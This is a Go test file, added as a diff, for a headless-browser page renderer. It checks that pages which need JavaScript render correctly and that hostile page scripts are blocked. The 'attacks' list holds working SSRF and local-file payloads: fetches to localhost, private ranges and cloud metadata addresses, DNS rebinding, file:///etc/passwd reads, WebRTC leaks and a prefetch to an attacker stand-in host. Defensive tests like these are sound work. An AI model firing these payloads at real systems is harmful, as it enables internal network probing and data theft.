@@ -1,0 +1,324 @@
+package web
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/netip"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+
+	"techo/internal/browser"
+	"techo/internal/testenv"
+	"techo/tools"
+	"techo/tools/internet"
+)
+
+// madeText is what the scripts of the pages write.
+const madeText = "The potter shapes each cup by hand, and lets it dry for a week before it is fired."
+
+// scripted are pages without text before their scripts run. TEXT stands for madeText.
+var scripted = []string{
+	`<div id=root></div><script>root.innerHTML = "<p>TEXT</p>"</script>`,
+	`<div id=root></div><script>setTimeout(() => root.append("TEXT"), 300)</script>`,
+	`<div id=root></div><script>fetch("/data").then(r => r.json()).then(d => root.append(d.text))</script>`,
+	`<div id=root></div><script>const x = new XMLHttpRequest; x.open("GET", "/data");
+x.onload = () => root.append(JSON.parse(x.responseText).text); x.send()</script>`,
+	`<div id=root></div><script>fetch("/data", {method: "POST", headers: {"X-A": "1"}, body: "{}"})
+.then(r => r.json()).then(d => root.append(d.text))</script>`,
+	`<div id=root></div><script type=module>import {text} from "/module.js"; root.append(text)</script>`,
+	`<div id=root></div><script>import("/module.js").then(m => root.append(m.text))</script>`,
+	`<div id=root></div><script src=/write.js></script>`,
+	`<div id=root></div><script defer src=/write.js></script>`,
+	`<div id=root></div><script>const s = document.createElement("script"); s.src = "/write.js";
+document.body.append(s)</script>`,
+	`<script>document.write("<p>TEXT</p>")</script>`,
+	`<x-cup></x-cup><script>customElements.define("x-cup", class extends HTMLElement {
+connectedCallback() { this.innerHTML = "<p>TEXT</p>" } })</script>`,
+	`<x-cup></x-cup><script>customElements.define("x-cup", class extends HTMLElement {
+constructor() { super(); this.attachShadow({mode: "open"}).innerHTML = "<style>p{}</style><p>TEXT</p>" } })</script>`,
+	`<x-cup><p id=in></p></x-cup><script>customElements.define("x-cup", class extends HTMLElement {
+constructor() { super(); this.attachShadow({mode: "open"}).innerHTML = "<main><slot></slot></main>"; } });
+document.querySelector("p").append("TEXT")</script>`,
+	`<template id=t><p></p></template><div id=root></div><script>
+const c = t.content.cloneNode(true); c.querySelector("p").append("TEXT"); root.append(c)</script>`,
+	`<div id=root></div><script>addEventListener("load", () => root.append("TEXT"))</script>`,
+	`<div id=root></div><script>requestAnimationFrame(() => root.append("TEXT"))</script>`,
+	`<div id=root></div><script>requestIdleCallback(() => root.append("TEXT"))</script>`,
+	`<div id=root></div><script>new IntersectionObserver(() => root.append("TEXT")).observe(root)</script>`,
+	`<div id=root></div><script>new MutationObserver(() => root.querySelector("i") ||
+root.append(document.createElement("i"), "TEXT")).observe(root, {childList: true}); root.append("")</script>`,
+	`<div id=root></div><script>history.pushState({}, "", "/cups"); root.append("TEXT")</script>`,
+	`<div id=root></div><script>location.hash || (location.hash = "cups");
+onhashchange = () => root.append("TEXT")</script>`,
+	`<div id=root></div><script>location.search || location.replace("?cups");
+location.search && root.append("TEXT")</script>`,
+	`<div id=root></div><script>new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage =
+() => root.append("TEXT")</script>`,
+	`<div id=root></div><script>localStorage.text = "TEXT"; root.append(localStorage.text)</script>`,
+	`<div id=root></div><script>indexedDB.open("a").onsuccess = () => root.append("TEXT")</script>`,
+	`<div id=root></div><script>document.cookie = "a=1"; document.cookie && root.append("TEXT")</script>`,
+	`<div id=root></div><script>crypto.getRandomValues(new Uint8Array(1));
+queueMicrotask(() => root.append("TEXT"))</script>`,
+	`<div id=root></div><script>new EventSource("/events").onmessage = e => root.append(e.data)</script>`,
+	`<div id=root></div><script>try { new RTCPeerConnection } catch {} try { new WebSocket("ws://a.test/") } catch {}
+alert(1); root.append("TEXT")</script>`,
+}
+
+// attacks are scripts of hostile pages. PORT is the port of the listeners. A script shows GOT if it read something.
+var attacks = []string{
+	`fetch("http://127.0.0.1:PORT/").then(got)`,
+	`fetch("http://localhost:PORT/").then(got)`,
+	`fetch("http://a.localhost:PORT/").then(got)`,
+	`fetch("http://[::1]:PORT/").then(got)`,
+	`fetch("http://10.0.0.1:PORT/").then(got)`,
+	`fetch("http://2130706433:PORT/", {mode: "no-cors"}).then(got)`,
+	`fetch("http://169.254.169.254:PORT/latest/meta-data/", {mode: "no-cors"}).then(got)`,
+	`fetch("http://[fd00:ec2::254]:PORT/", {mode: "no-cors"}).then(got)`,
+	`fetch("http://metadata.google.internal:PORT/", {mode: "no-cors"}).then(got)`,
+	`fetch("http://rebind.test:PORT/", {mode: "no-cors"}).then(() =>
+fetch("http://rebind.test:PORT/again", {mode: "no-cors"})).then(got)`,
+	`fetch("/redirect?to=http://127.0.0.1:PORT/", {mode: "no-cors"}).then(got)`,
+	`fetch("/redirect?to=http://169.254.169.254:PORT/", {mode: "no-cors"}).then(got)`,
+	`fetch("/redirect?to=file:///etc/passwd").then(got)`,
+	`fetch("file:///etc/passwd").then(got)`,
+	`const x = new XMLHttpRequest; x.open("GET", "file:///etc/passwd"); x.onload = () => got(x); x.send()`,
+	`document.body.insertAdjacentHTML("beforeend", "<iframe src='file:///etc/passwd'></iframe>")`,
+	`document.body.insertAdjacentHTML("beforeend", "<iframe src='http://127.0.0.1:PORT/'></iframe>")`,
+	`document.body.insertAdjacentHTML("beforeend", "<img src='http://127.0.0.1:PORT/'>")`,
+	`document.body.insertAdjacentHTML("beforeend", "<link rel=preconnect href='http://10.0.0.2:PORT/'>" +
+"<link rel=dns-prefetch href='//secret.attacker.test'><link rel=prefetch href='http://10.0.0.3:PORT/'>")`,
+	`document.body.insertAdjacentHTML("beforeend", "<object data='http://10.0.0.4:PORT/'></object>" +
+"<video src='http://10.0.0.5:PORT/'></video><embed src='http://10.0.0.6:PORT/'>")`,
+	`new WebSocket("ws://127.0.0.1:PORT/").onopen = got`,
+	`new WebSocket("ws://8.8.4.4:PORT/").onopen = got`,
+	`new EventSource("http://127.0.0.1:PORT/").onopen = got`,
+	`navigator.sendBeacon("http://127.0.0.1:PORT/", "x")`,
+	`const r = new RTCPeerConnection({iceServers: [{urls: ["stun:8.8.4.4:UDP", "turn:8.8.4.4:PORT?transport=tcp"],
+username: "a", credential: "b"}]}); r.createDataChannel("x"); r.createOffer().then(o => r.setLocalDescription(o))`,
+	`const f = document.createElement("iframe"); document.body.append(f);
+const r = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: "stun:8.8.4.4:UDP"}]});
+r.createDataChannel("x"); r.createOffer().then(o => r.setLocalDescription(o))`,
+	`new WebTransport("https://8.8.4.4:UDP/").ready.then(got)`,
+	`const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "evil.txt"; a.click()`,
+	`const a = document.createElement("a"); a.href = "/download"; a.download = "evil.bin"; a.click()`,
+	`open("http://127.0.0.1:PORT/"); open("file:///etc/passwd"); open("view-source:file:///etc/passwd")`,
+	`new Worker(URL.createObjectURL(new Blob([
+"fetch('http://127.0.0.1:PORT/',{mode:'no-cors'}).then(()=>postMessage(1))"])))
+.onmessage = got`,
+	`new SharedWorker("/worker.js").port.onmessage = got`,
+	`navigator.serviceWorker.register("/worker.js").then(() => 0)`,
+	`const f = document.createElement("form"); f.action = "ssh://127.0.0.1:PORT/"; document.body.append(f); f.submit()`,
+	`location = "chrome://settings"`,
+	`location = "mailto:a@b"`,
+}
+
+// stage is a server at all addresses of an isolated network, and a browser.
+type stage struct {
+	t    *testing.T
+	env  *tools.Env
+	port string
+	udp  string
+	mu   sync.Mutex
+	hits []string // addresses that were reached, except for 8.8.8.8
+	page string
+}
+
+// newStage starts the servers. The browser has no sandbox: the only user here is root.
+func newStage(t *testing.T) *stage {
+	path, err := browser.Find()
+	if err != nil {
+		testenv.Missing(t, "a browser")
+	}
+	program := filepath.Join(t.TempDir(), "browser")
+	if err := os.WriteFile(program, []byte("#!/bin/sh\nexec "+path+" --no-sandbox \"$@\"\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	s := &stage{t: t, env: newEnv(t, "")}
+	tools.Change(s.env, func(settings *internet.Settings) { settings.Browser = program })
+	l, err := net.Listen("tcp", ":0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	u, err := net.ListenPacket("udp", ":0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, s.port, _ = net.SplitHostPort(l.Addr().String())
+	_, s.udp, _ = net.SplitHostPort(u.LocalAddr().String())
+	go func() {
+		for b := make([]byte, 1500); ; {
+			if _, _, err := u.ReadFrom(b); err != nil {
+				return
+			}
+			s.hit("udp")
+		}
+	}()
+	server := &http.Server{Handler: s, ConnContext: func(ctx context.Context, c net.Conn) context.Context {
+		host, _, _ := net.SplitHostPort(c.LocalAddr().String())
+		s.hit(strings.TrimPrefix(host, "::ffff:"))
+		return ctx
+	}}
+	go server.Serve(l)
+	t.Cleanup(func() { server.Close(); u.Close() })
+	return s
+}
+
+func (s *stage) hit(address string) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	if address != "8.8.8.8" {
+		s.hits = append(s.hits, address)
+	}
+}
+
+// ServeHTTP serves the page and what it loads.
+func (s *stage) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	if to := r.URL.Query().Get("to"); to != "" {
+		http.Redirect(w, r, to, http.StatusFound)
+		return
+	}
+	kind, body := "text/html; charset=utf-8", s.page
+	switch r.URL.Path {
+	case "/data":
+		kind, body = "application/json", `{"text":"`+madeText+`"}`
+	case "/module.js":
+		kind, body = "text/javascript", `export const text = "`+madeText+`"`
+	case "/write.js":
+		kind, body = "text/javascript", `root.append("`+madeText+`")`
+	case "/worker.js":
+		kind, body = "text/javascript", `onconnect = e => fetch("http://127.0.0.1:`+s.port+`/", {mode: "no-cors"})
+.then(() => e.ports[0].postMessage(1)); fetch("http://127.0.0.1:`+s.port+`/", {mode: "no-cors"})`
+	case "/events":
+		kind, body = "text/event-stream", "data: "+madeText+"\n\n"
+	case "/download":
+		w.Header().Set("Content-Disposition", "attachment")
+		kind, body = "application/octet-stream", "evil"
+	}
+	w.Header().Set("Content-Type", kind)
+	io.WriteString(w, body)
+}
+
+// render renders a page at a public address.
+func (s *stage) render(page string) (FetchedPage, error) {
+	s.page = "<!DOCTYPE html><html><head><title>Cups</title></head><body>" + page + "</body></html>"
+	f := newFetch(s.t, s.env, FetchIn{URL: "http://8.8.8.8:" + s.port + "/", Render: "always", Timeout: 40})
+	f.client = newClient(s.env)
+	var asked atomic.Int32
+	f.client.lookup = func(_ context.Context, host string) ([]netip.Addr, error) {
+		switch {
+		case host != "rebind.test":
+			return nil, nil
+		case asked.Add(1) == 1:
+			return []netip.Addr{netip.MustParseAddr("8.8.8.8")}, nil
+		}
+		return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
+	}
+	return f.run(s.t.Context())
+}
+
+// TestRender renders pages that have no text without JavaScript.
+func TestRender(t *testing.T) {
+	if !testenv.Isolated(t) {
+		return
+	}
+	s := newStage(t)
+	for i, page := range scripted {
+		if i > 0 && !testenv.Full() {
+			break
+		}
+		out, err := s.render(strings.ReplaceAll(page, "TEXT", madeText))
+		if err != nil || !strings.Contains(out.Page, madeText) || !out.Rendered || out.Source != "rendered" ||
+			out.NeedsJavaScript || !strings.HasPrefix(out.Browser, "Chrome/") {
+			t.Errorf("%s\n%v %+v", page, err, out)
+		}
+	}
+}
+
+// TestRenderAttacks renders hostile pages, in a network where everything has a listener. The
+// long tests try each attack alone.
+func TestRenderAttacks(t *testing.T) {
+	if testenv.All(t, "a browser"); !testenv.Isolated(t) {
+		return
+	}
+	s := newStage(t)
+	home := os.Getenv("HOME")
+	before, _ := filepath.Glob(filepath.Join(home, "*"))
+	pages := [][]string{attacks}
+	if testenv.Long() {
+		pages = nil
+		for _, a := range attacks {
+			pages = append(pages, []string{a})
+		}
+	}
+	fill := strings.NewReplacer("PORT", s.port, "UDP", s.udp)
+	for _, scripts := range pages {
+		var b strings.Builder
+		b.WriteString(`<p id=here>Here</p><script>const got = () => document.body.append("GOT")</script>`)
+		for _, script := range scripts {
+			fmt.Fprintf(&b, "<script>{ %s }</script>", fill.Replace(script))
+		}
+		out, err := s.render(b.String())
+		if err == nil && (!strings.Contains(out.Page, "Here") || strings.Contains(out.Page, "GOT") ||
+			strings.Contains(out.Page, "root:")) {
+			t.Errorf("%.90q: %q", scripts, out.Page)
+		}
+		if err != nil {
+			t.Errorf("%.90q: %v", scripts, err)
+		}
+		s.mu.Lock()
+		if len(s.hits) > 0 {
+			t.Errorf("%.90q: reached %q", scripts, s.hits)
+		}
+		s.hits = nil
+		s.mu.Unlock()
+	}
+	if after, _ := filepath.Glob(filepath.Join(home, "*")); !slices.Equal(before, after) {
+		t.Errorf("files: %q", after)
+	}
+}
+
+// TestRenderAway renders pages that lead to a private address.
+func TestRenderAway(t *testing.T) {
+	if testenv.All(t, "a browser"); !testenv.Isolated(t) {
+		return
+	}
+	s := newStage(t)
+	for _, to := range []string{"127.0.0.1", "169.254.169.254", "rebind.test"} {
+		_, err := s.render(`<div id=root></div><script>location = "http://` + to + ":" + s.port + `/"</script>`)
+		if e := tools.AsError(s.env, err); err == nil || e.Code != tools.Forbidden || len(s.hits) > 0 {
+			t.Errorf("%s: %v, reached %q", to, err, s.hits)
+		}
+	}
+}
+
+// TestRenderNone asks for a rendering that the person has not allowed, or that is impossible.
+func TestRenderNone(t *testing.T) {
+	address := serve(t, func(w http.ResponseWriter, _ *http.Request) {
+		io.WriteString(w, `<html><title>App</title><div id=root></div><script>1</script></html>`)
+	})
+	env := newEnv(t, "")
+	_, e := get(t, env, FetchIn{URL: address, Render: "always"})
+	wantError(t, e, tools.Unavailable, "No browser may run")
+	out, e := get(t, env, FetchIn{URL: address, Render: "auto"})
+	if e != nil || out.Rendered || !strings.Contains(out.Hint, "config set browser auto") {
+		t.Errorf("%+v %+v", out, e)
+	}
+	tools.Change(env, func(s *internet.Settings) { s.Browser = filepath.Join(t.TempDir(), "none") })
+	_, e = get(t, env, FetchIn{URL: address, Render: "always"})
+	wantError(t, e, tools.Unavailable, "did not start")
+	out, e = get(t, env, FetchIn{URL: address, Render: "auto"})
+	if e != nil || out.Rendered || !strings.Contains(out.Hint, "did not start") {
+		t.Errorf("%+v %+v", out, e)
+	}
+	if out, e = get(t, env, FetchIn{URL: address}); e != nil || !strings.Contains(out.Hint, "--render auto") {
+		t.Errorf("%+v %+v", out, e)
+	}
+}
